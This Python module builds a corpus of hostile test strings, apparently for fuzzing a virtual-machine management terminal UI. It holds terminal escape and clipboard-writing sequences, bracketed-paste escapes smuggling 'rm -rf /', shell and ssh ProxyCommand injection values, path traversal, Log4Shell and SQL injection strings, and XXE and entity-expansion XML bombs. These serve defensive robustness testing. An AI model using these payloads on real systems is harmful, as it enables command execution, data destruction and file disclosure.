"""Texts that somebody who controls a VM, a guest, a host or a file could choose, by what they try to do.

Each is one item: a terminal that is given one of them raw acts on it, a layout that takes one as it comes breaks, a
shell that meets one unquoted runs something. Everything is made here; nothing is read.
"""

from __future__ import annotations

from itertools import product
from typing import NamedTuple

ESC = "\x1b"
ST = "\x1b\\"
BEL = "\x07"


class Item(NamedTuple):
    """One hostile text, and what it tries."""

    family: str
    text: str


def _controls() -> list[str]:
    """Every C0 and C1 control by itself inside a name, as bytes of the two-byte form of ESC as well."""
    singles = [f"a{chr(code)}b" for code in (*range(32), 127, *range(0x80, 0xA0))]
    escaped = [f"a{ESC}{chr(code - 0x40)}b" for code in range(0x80, 0xA0)]
    # A C1 control that was decoded as Latin-1 from its UTF-8 bytes, or twice encoded.
    twice = [f"a{chr(code).encode().decode('latin-1')}b" for code in (0x84, 0x85, 0x8D, 0x90, 0x9B, 0x9C, 0x9D, 0x9F)]
    return [*singles, *escaped, *twice, "\x1b", "a\x1b", "\x1b\x1b", "\x9b", "\x00", "\x7f" * 40, "\x08" * 40 + "root"]


def _sequences() -> list[str]:
    """Control sequences in both introducers: clearing, moving, scrolling regions, modes, reports, resizing."""
    bodies = (
        "2J", "3J", "H", "1;1H", "999;999H", "99999999A", "99999999B", "K", "2K", "1L", "1M", "1P", "1@", "1X",
        "5S", "5T", "2;3r", "r", "s", "u", "m", "0m", "31m", "1;5;7m", "38;2;255;0;0m", "48;5;9m", "8m", "?25l",
        "?25h", "?1049h", "?1049l", "?1000h", "?1003h", "?1006h", "?2004h", "?2004l", "?2026h", "?47h", "?3h",
        "?5h", "?6h", "?7l", "4h", "20h", "c", ">c", "=c", "5n", "6n", "?6n", "?15n", ">q", "!p", "?1$p", "0t",
        "18t", "14t", "19t", "21t", "20t", "8;1;1t", "2t", "4;1;1t", "9;1t", "22;0t", "23;0t", "3g", "0;1;2;3y",
        "2 q", "?1;2;3;4h", "1;" * 60 + "m", "b", "?u", ">1u", "<u", "=1u", "?996n", "1$}", '1"q', "5*x", "i",
        "5i", "4i", "0c",
    )  # fmt: skip
    return [f"x{start}{body}y" for start, body in product((ESC + "[", "\x9b"), bodies)]


def _strings() -> list[str]:
    """OSC, DCS, APC, PM and SOS in both forms, ended in each way and not at all."""
    osc = (
        "0;owned", "1;icon", "2;title", "4;1;?", "4;1;#ff0000", "7;file:///etc", "8;;http://evil/",
        "8;id=1;ssh://x", "9;notify", "9;4;1;50", "10;?", "11;?", "12;red", "13;?", "50;font", "52;c;ZXZpbA==",
        "52;p;?", "52;;!", "52;c;" + "QUFB" * 60, "99;i=1;hi", "104", "110", "133;A", "133;C", "555;x",
        "633;E;rm -rf /", "777;notify;a;b", "1337;File=inline=1:AAAA", "1337;SetUserVar=a=b",
        "1337;CopyToClipboard=", "5522;x", "P0ff0000", "R", "lfile", "Lfile", "3;_X=1",
    )  # fmt: skip
    dcs = ("$qm", "$q q", "+q544e", "+p61", "=1s", "1000p", "tmux;\x1b\x1b]52;c;ZXZpbA==\x07", "q#0;2;0;0;0#0~~", ">|x",
           "|0/1", "1;1|17/6f", "0;1|x", "{G~", "!u00", "$t1")  # fmt: skip
    found = [f"x{start}{body}{end}y" for start, body, end in product((ESC + "]", "\x9d"), osc, (BEL, ST))]
    found += [f"x{start}{body}{end}y" for start, body, end in product((ESC + "P", "\x90"), dcs, (ST, "\x9c"))]
    for start in (ESC + "_", "\x9f", ESC + "^", "\x9e", ESC + "X", "\x98", ESC + "k"):
        found += [f"x{start}Ga=T,f=100;AAAA{end}y" for end in (ST, "\x9c", BEL, "")]
    found += [f"x{start}0;never ended" for start in (ESC + "]", "\x9d", ESC + "P", "\x90")]
    return found


def _other_escapes() -> list[str]:
    """Resets, character sets, keypads, the answer-back, and the ends of a paste."""
    finals = [f"x{ESC}{final}y" for final in "c78=>DEHMNOVWZ\\lmno|}~"]
    sets = [f"x{ESC}{which}{what}y" for which, what in product("()*+-./", "0BAU")] + [
        f"x{ESC}#8y",
        f"x{ESC}%Gy",
        f"x{ESC}%@y",
    ]
    pastes = [
        f"a{ESC}[201~rm -rf /\r", f"{ESC}[200~!f!{ESC}[201~", "a\x9b201~\rrm -rf /\r", f"{ESC}[M !!",
        f"{ESC}[<0;1;1M", f"{ESC}[<0;1;1m", f"{ESC}OP", f"{ESC}[15~", f"{ESC}[I", f"{ESC}[O",
    ]  # fmt: skip
    return [*finals, *sets, *pastes, "\x05", "a\x05b", "\x0e" + "lqqk", "\x0f"]


def _directions() -> list[str]:
    """Bidirectional, invisible and look-alike characters."""
    marks = [
        *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x061C, 0x180E, 0xFEFF, 0x00AD,
        0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x3164, 0xFFA0, 0x2800, 0x2028, 0x2029, 0x00A0, 0x1680,
        *range(0x2000, 0x200B), 0x202F, 0x205F, 0x3000, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF,
        0x180B, 0x180C, 0x180D, 0x180F, 0xFE00, 0xFE0E, 0xFE0F, 0xE0001, 0xE0020, 0xE0041, 0xE007F, 0xE0100,
        0xE01EF, 0x1D173, 0x13430, 0x1BCA0, 0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0x0378, 0xE0FFF, 0x1FFFE,
    ]  # fmt: skip
    words = [
        "abc\u202egnp.exe", "\u2066x\u2069", "\u202a\u202b\u202c\u202d", "admin\u200b", "adm\u0456n",
        "\u0430dmin", "web\u20111", "web\u22121", "\u05d0\u05d1\u05d2 abc",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 1 a", "\u202e" * 30 + "x",
        "\U000e0001\U000e0065\U000e006e\U000e007f", "web\ufe0f-1", "ﬀﬁﬂ", "K\u212a", "\u017f\u0131\u0130",
    ]  # fmt: skip
    return [*(f"a{chr(code)}b" for code in marks), *words]


def _widths() -> list[str]:
    """What is drawn wider, narrower or higher than it is long."""
    towers = [
        base + mark * count for base in ("e", "漢", " ") for mark in "\u0301\u0489\u20dd\u0e47" for count in (1, 9, 80)
    ]
    return [
        *towers, "\u0301lead", "\u0301", "Z\u0351\u036b\u0343\u036aa\u0302\u036bl\u0301\u0351", "漢字" * 100,
        "ｗｉｄｅ", "👍", "👍🏽", "👩\u200d👩\u200d👧\u200d👦",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇩🇪", "🇩", "1\ufe0f\u20e3", "❤\ufe0f",
        "❤\ufe0e", "☎️" * 20, "각" * 20, "\u1112\u1161\u11ab", "\u1161" * 9, "नमस्ते", "ก็็็็็็็็", "தமிழ்",
        "ﷺ" * 20, "𒐫" * 10, "꧅" * 10, "⸻" * 10, "🫠🫱🏻‍🫲🏿", "𝕬𝖉𝖒𝖎𝖓", "─│┌█▀▄", "●○◆", "…" * 9, "\u2764" * 50,
        "ａ\u0301" * 20, "\U0001f1e6" * 7,
    ]  # fmt: skip


def _shapes() -> list[str]:
    """Empty, blank, endless, and full of line ends."""
    return [
        "", " ", "   ", "\u3000", "\u00a0", "x" * 300, "y" * 301, "z" * 10_000,
        "web-" + "0123456789" * 30 + "-prod", "a b" * 100, "one\ntwo", "one\r\ntwo", "one\rtwo", "\n", "\r",
        "\t", "a\tb", "\n" * 50, "a\vb\fc", "a\x1cb\x1dc\x1ed", "\x85line", "trailing ", " leading", "a\bb",
        "\b\b\b\b\b", "a\x00b", "漢" * 300, ".", "..", "-", "--", "0", "-1", "NaN", "None", "null", "true",
        "1e999", "0x10", "١٢٣", "1_000", "\\", "\\x1b", "\\u202e", "\\n", "'", '"', "`", "'\"'\"'",
    ]  # fmt: skip


def _surrogates() -> list[str]:
    """Halves of characters, as bytes that are no UTF-8 become in Python."""
    return [
        "lone\udc9bhalf", "\ud800", "\udfff", "\udc80\udc81", "\ud83d", "\ude00\ud83d", "a\udcffb", "\udc1b[2J",
        "\udc9b2J", b"\x80\x9b\xff\xc3".decode("utf-8", "surrogateescape"),
        b"a\xc2".decode("utf-8", "surrogateescape"),
    ]  # fmt: skip


def _markup() -> list[str]:
    """What Rich, Textual, HTML, Markdown or a template would act on."""
    return [
        "[bold red]x[/]", "[/]", "[/bold]", "[", "]", "[[", "[]", "[link=http://evil]go[/link]",
        "[@click=app.quit]q[/]", "[@click=app.exit(1)]q[/]", "[@click=screen.dismiss]x",
        "[@mouse.down=app.quit]x[/]", "\\[bold]", "[on red] [/]", "[blink]x", "[reverse]all", "[conceal]x[/]",
        "[$primary]x", "[#ff0000]x", "[rgb(1,2,3)]x", "[not bold]x", ":skull:", ":warning: :bomb:",
        "[bold]" * 100, "[/]" * 100, "[red]a[/blue]", "<b>x</b>", "<script>alert(1)</script>", "<!--", "-->",
        "]]>", "<![CDATA[x]]>", "&amp;", "&lt;x&gt;", "&#27;[2J", "&#x1b;c", "&xxe;", "%s%n%x", "%(name)s",
        "%d" * 20, "{}", "{0}", "{name}", "{self.__class__}", "{0.__init__.__globals__}", "{{x}}", "${HOME}",
        "$HOME", "#{x}", "{:>9999999}", "*bold*", "_x_", "# head", "```", "| a | b |", "\\033[2J", "\\e[2J",
        "^[[2J", "%1b[2J", "%c3%28",
    ]  # fmt: skip


def _commands() -> list[str]:
    """What a shell, ssh, virsh, a filter or a path would act on."""
    return [
        "; rm -rf ~", "&& reboot", "|| halt", "| sh", "$(touch /tmp/owned)", "`touch /tmp/owned`", "a'b", 'a"b',
        "'; touch x; '", '"; touch x; "', "a\nreboot\n", "> /etc/passwd", "< /etc/shadow", "a & b", "*", "?",
        "~", "~root", "!!", "!f", "^a^b", "a;b", "(a)", "{a,b}", "\\", "a\\", "\\'", "$'\\x1b'", "$IFS", "-rf",
        "--help", "--version", "-h", "-", "--", "--yes", "--json", "-c", "--all", "--domain=x", "--title",
        "--edit", "-oProxyCommand=touch /tmp/owned", "-oProxyCommand=id;x", "-F/etc/passwd", "-J evil",
        "host -oProxyCommand=x", "a,b", "a=b", "a:b", "hv1/web-1", "/", "../../etc/passwd", "..\\..\\x",
        "/dev/sda", "/proc/self/mem", "file:///etc/passwd", "name:x", "-name:x", "state:running", "cpu>0",
        "a or b", '"', "'", "name:", ">=", "-", "all", "none", "marked", "shell", "quit", "q!", "/x", ":q", "?",
        "\\.\\pipe\\x", "CON", "nul", "C:\\", "qemu:///system", "qemu+ssh://-oProxyCommand=x/system",
        "test:///default", "00000000-0000-0000-0000-000000000000", "12345", "1", "-1", "vnet0",
        "${jndi:ldap://x}", "' OR 1=1 --", "'; DROP TABLE vms; --",
    ]  # fmt: skip


def _documents() -> list[str]:
    """What an XML, JSON or TOML reader would trip over."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return [
        f'<!DOCTYPE x [<!ENTITY e0 "lol">{levels}]><x>&e9;</x>',
        f'<!DOCTYPE x [<!ENTITY a "{"A" * 2000}">]><x>{"&a;" * 500}</x>',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
        '<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>', '<?xml version="1.0" encoding="UTF-16"?><x/>', "<x",
        "</x>", "<x a='1' a='2'/>", "<a>" * 500, '<?xml-stylesheet href="x"?>', "\ufeff<x/>", "<x>\x00</x>",
        "<domain><name/></domain>", '{"a":', "[" * 500, '{"a": 1e999}', '{"a": NaN}', '"\\ud800"',
        '{"a":1,"a":2}', "1" * 500, '[hosts."a', "a = ", 'x = """', "'''", "[[a]]\n[a]", "a.b = 1\na.b.c = 2",
        "d = 9999-99-99", "key = 0b", "\x00", "uri = '\\x1b'",
    ]  # fmt: skip


FAMILIES = {
    "controls": _controls,
    "sequences": _sequences,
    "strings": _strings,
    "other escapes": _other_escapes,
    "directions": _directions,
    "widths": _widths,
    "shapes": _shapes,
    "surrogates": _surrogates,
    "markup": _markup,
    "commands": _commands,
    "documents": _documents,
}

ITEMS: tuple[Item, ...] = tuple(
    {text: Item(family, text) for family, make in FAMILIES.items() for text in make()}.values()
)
"""All of them, each text once."""

TEXTS: tuple[str, ...] = tuple(item.text for item in ITEMS)


def of(family: str) -> tuple[str, ...]:
    """Return the texts of one family."""
    return tuple(item.text for item in ITEMS if item.family == family)


def packed(texts: tuple[str, ...] = TEXTS, most: int = 290) -> tuple[str, ...]:
    """Return the same texts in few: several stand in one, with a word between, up to a length."""
    packs: list[str] = []
    for text in texts:
        short = text[:most]
        if packs and len(packs[-1]) + len(short) + 1 <= most:
            packs[-1] = f"{packs[-1]}.{short}"
        else:
            packs.append(short)
    return tuple(packs)
